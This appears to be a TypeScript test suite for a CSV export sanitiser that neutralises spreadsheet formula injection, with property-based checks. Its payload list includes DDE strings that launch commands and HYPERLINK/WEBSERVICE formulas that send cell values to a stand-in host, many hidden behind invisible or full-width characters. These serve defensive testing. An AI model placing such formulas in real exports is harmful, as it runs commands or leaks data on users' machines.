import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { CSV_BOM, csvLine, csvSafe } from './csv.js';

const rows = (text: string): string[][] => parse(text, { bom: true });

const dangerous = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Each with what a reader must still find in the cell. */
const hostile: [payload: string, readable: string][] = [
  ['=1+1', '=1+1'],
  ['=1+1\nnote', '=1+1'],
  ['+1+1', '+1+1'],
  ['-1+1', '-1+1'],
  ['@SUM(A1:A9)', '@SUM(A1:A9)'],
  ['=HYPERLINK("http://example.org/?"&A1,"open")', 'HYPERLINK("http://example.org/?"&A1,"open")'],
  ["=cmd|' /C calc'!A0", "cmd|' /C calc'!A0"],
  ["+cmd|' /C calc'!A0", "cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "cmd|' /C calc'!A0"],
  ["@cmd|' /C calc'!A0", "cmd|' /C calc'!A0"],
  ['=IMPORTXML("http://example.org","//a")', 'IMPORTXML'],
  ['=WEBSERVICE("http://example.org/"&B2)', 'WEBSERVICE'],
  ['=DDE("cmd";"/C calc";"x")', 'DDE("cmd";"/C calc";"x")'],
  ['\t=1+1', '=1+1'],
  ['\r=1+1', '=1+1'],
  ['\n=1+1', '=1+1'],
  ['\r\n=1+1', '=1+1'],
  ['\0=1+1', '=1+1'],
  ['\u0001\u0002=1+1', '=1+1'],
  ['\u001b[31m=1+1', '[31m=1+1'],
  ['\u0085=1+1', '=1+1'],
  ['\v=1+1', '=1+1'],
  ['\f=1+1', '=1+1'],
  [' =1+1', '=1+1'],
  ['   \t \u00a0=1+1', '=1+1'],
  ['\u3000=1+1', '=1+1'],
  ['\u2003=1+1', '=1+1'],
  ['\ufeff=1+1', '=1+1'],
  ['\u200b=1+1', '=1+1'],
  ['\u200e=1+1', '=1+1'],
  ['\u202e=1+1', '=1+1'],
  ['\u2060\u2063=1+1', '=1+1'],
  ['\u00ad=1+1', '=1+1'],
  ['\u{e0020}=1+1', '=1+1'],
  ['＝1+1', '＝1+1'],
  ['＋1+1', '＋1+1'],
  ['－1+1', '－1+1'],
  ['＠SUM(A1)', '＠SUM(A1)'],
  [' ＝1+1', '＝1+1'],
  ['\ufeff＝1+1', '＝1+1'],
  ['\u200b＠SUM(A1)', '＠SUM(A1)'],
  ['﹦1+1', '﹦1+1'],
  ['﹢1+1', '﹢1+1'],
  ['﹣1+1', '﹣1+1'],
  ['﹫SUM(A1)', '﹫SUM(A1)'],
  ['⁼1', '⁼1'],
  ['−1+1', '−1+1'],
  ['"=1+1"', '"=1+1"'],
  ['=1+1,=2+2', '=1+1,=2+2'],
  ['=1+1","=2+2', '=1+1","=2+2'],
  ['=乱罚款', '=乱罚款'],
  ['\t\t-罚款 500 元', '-罚款 500 元'],
  ['=', '='],
  ['-', '-'],
];

describe('csvLine', () => {
  it.each(hostile)('makes %j harmless and keeps it readable', (payload, readable) => {
    const [row] = rows(csvLine(['before', payload, 'after']));
    expect(row).toHaveLength(3);
    expect(row![1]).not.toMatch(dangerous);
    expect(row![1]!.normalize('NFKC')).not.toMatch(/^[=+\-@\u2212\s]/);
    expect(row![1]).toContain(readable);
  });

  it('leaves plain texts as they are', () => {
    const plain = [
      '张伟',
      'he said "no", then left',
      'two\nlines',
      "O'Neill",
      'a=b',
      '2026-03-02',
      '100%',
      'x-y',
      '',
    ];
    const [row] = rows(csvLine(plain));
    expect(row).toEqual(plain);
  });

  it('keeps numbers as numbers and absent values as empty cells', () => {
    expect(csvLine([-5, 0, true, null, undefined, 'x'])).toBe('-5,0,true,,,x\r\n');
  });

  it('never lets any text begin a formula', () => {
    const begins = fc.constantFrom(...'=+-@＝＋－＠﹦ \t\r\n\0\ufeff\u200b"\',;|'.split(''));
    const text = fc.tuple(fc.array(begins, { maxLength: 6 }), fc.string({ unit: 'binary' }));
    fc.assert(
      fc.property(text, ([head, tail]) => {
        const cell = head.join('') + tail;
        const [row] = rows(CSV_BOM + csvLine([cell, 'after']));
        expect(row).toHaveLength(2);
        expect(row![0]).not.toMatch(dangerous);
      }),
    );
  });

  it('says the same about a text that is safe already', () => {
    for (const [payload] of hostile) expect(csvSafe(csvSafe(payload))).toBe(csvSafe(payload));
  });
});
